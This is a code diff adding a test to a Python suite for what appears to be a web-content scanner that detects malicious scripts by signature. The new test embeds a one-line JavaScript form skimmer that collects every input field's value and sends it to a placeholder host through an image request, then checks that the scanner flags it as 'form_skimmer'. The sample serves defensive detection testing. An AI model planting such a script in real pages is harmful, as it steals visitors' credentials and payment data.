@@ -19,6 +19,7 @@ from sentinel.kit.content.judge import Verdict, Word, judge
 from sentinel.kit.content.reason import Code, Reason
 from sentinel.kit.content.signatures import Hit, Signatures
 from tests.kit.content.pages import HOST, WORDS, judged, page
+from tests.kit.content.watch import Watch
 
 GOOD = """
 rule kucing
@@ -174,3 +175,17 @@ def test_threads_share_a_set() -> None:
     for thread in threads:
         thread.join()
     assert [hit.signature.name for hit in told] == ["kucing"] * 4
+
+
+def test_the_event_names_the_signature_and_its_place() -> None:
+    watch = Watch().settle()
+    code = "document.querySelectorAll('input').forEach(i=>d+=i.value);new Image().src='https://x.example/?'+d"
+    event = watch.see(page(body=f"<script>{code}</script>"))
+    assert event["sentinel.content.signatures"] == ["form_skimmer"]
+    assert event["sentinel.content.findings"] == ["foreign"]
+    assert any(" @ body > script" in place for place in as_list(event["sentinel.content.where"]))
+
+
+def as_list(value: object) -> list[str]:
+    assert isinstance(value, list)
+    return value
